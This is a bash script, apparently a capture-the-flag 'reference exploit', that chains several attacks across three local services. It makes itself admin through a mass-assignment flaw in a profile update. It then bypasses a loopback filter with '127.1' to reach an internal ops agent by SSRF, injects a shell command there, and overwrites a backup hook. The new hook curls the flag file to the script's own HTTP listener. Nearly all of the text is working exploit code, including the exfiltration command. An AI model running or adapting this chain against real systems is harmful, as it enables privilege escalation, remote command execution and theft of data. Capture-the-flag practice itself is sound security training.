#!/bin/bash
# Reference exploit, across three services and two uids:
# 1. the portal's PATCH /api/me copies any field into the profile, role included: become admin;
# 2. the admin webhook test blocks loopback IP literals but not "127.1", posts our payload and attaches the
#    ops service's token: through it (SSRF), the ops agent's /diag/resolve, which puts the host into a
#    shell line and filters ; & | ` only, runs $(...) as the ops user;
# 3. the backup agent, another user, runs the pre-backup hook the ops user publishes: replace it, and it
#    sends us the flag.
set -euo pipefail
portal=http://127.0.0.1:8080
python3 - <<'PY' &
import http.server

class Catch(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        with open("/tmp/caught", "ab") as f:
            f.write(self.rfile.read(int(self.headers.get("Content-Length", 0) or 0)) + b"\n")
        self.send_response(204)
        self.end_headers()
    def log_message(self, *args):
        pass

http.server.HTTPServer(("127.0.0.1", 7777), Catch).serve_forever()
PY
listener=$!
trap 'kill $listener' EXIT
touch /tmp/caught
json() { python3 -c 'import json, sys; print(json.load(sys.stdin)[sys.argv[1]])' "$1"; }
# stage: an account of our own, made admin through the profile update
curl -s -X POST -d '{"username": "mallory", "password": "correct horse"}' "$portal/api/register" >/dev/null
token=$(curl -s -X POST -d '{"username": "mallory", "password": "correct horse"}' "$portal/api/login" | json token)
curl -s -X PATCH -H "Authorization: Bearer $token" -d '{"role": "admin"}' "$portal/api/me" >/dev/null
# stage: SSRF into the ops agent, command injection there: replace the hook the backup agent runs
hook="curl -s --data-binary @/service/flag.txt http://127.0.0.1:7777/"
ssrf="{\"url\": \"http://127.1:9100/diag/resolve\", \"payload\": {\"host\": \"x\$(echo $hook > /service/hooks/pre-backup.sh)\"}}"
curl -s -X POST -H "Authorization: Bearer $token" -d "$ssrf" "$portal/api/admin/webhooks/test" >/dev/null
# stage: the backup agent runs the hook as its own user
for _ in $(seq 50); do
  if grep -q 'bastion{' /tmp/caught; then break; fi
  sleep 0.2
done
cat /tmp/caught
